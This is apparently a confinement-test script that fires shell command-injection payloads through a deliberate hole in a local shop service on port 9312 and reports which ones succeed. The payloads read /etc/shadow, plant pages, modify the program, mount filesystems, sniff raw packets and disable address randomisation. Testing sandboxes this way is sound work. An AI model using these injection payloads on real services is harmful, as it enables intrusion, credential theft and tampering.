# Try each attack through the hole in the shop on port 9312, and say which works.
send() { curl --silent --max-time 30 --get --data-urlencode "word=$1" http://127.0.0.1:9312/stock; }
try() {
  case "$(send "tea; if ( $2 ) > /dev/null 2>&1; then echo it-worked; fi")" in
    *it-worked*) echo "$1: works" ;;
    *) echo "$1: fails" ;;
  esac
}
try 'buy tea honestly'           'test -e /srv/shop/stock.txt'
try 'plant a page'               'echo gotcha > /srv/shop/pages/planted.html'
try 'rewrite the program'        'echo "# mine" >> /srv/shop/shop.py'
try 'run a tool of its own'      'cp /bin/true /tmp/tool && /tmp/tool'
try "read root's file"           'cat /etc/shadow'
try 'read it by a setuid tool'   'peek /etc/shadow'
try 'give a file away'           'touch /tmp/it && chown 12345 /tmp/it'
try 'listen to the network'      'python3 -c "import socket as s; s.socket(s.AF_PACKET, s.SOCK_RAW, 3)"'
try 'mount a file system'        'mount -t tmpfs none /mnt'
try 'switch off a defence'       'setarch --addr-no-randomize true'
# Bounded on purpose: 200 processes that do nothing, 250 MB for a moment.
many='import subprocess as s; [s.Popen(["cat"], stdin=s.PIPE) for _ in range(200)]'
try 'start 200 processes'        "python3 -c '$many'"
try 'take 250 MB of memory'      "python3 -c 'b\"x\" * 250_000_000'"
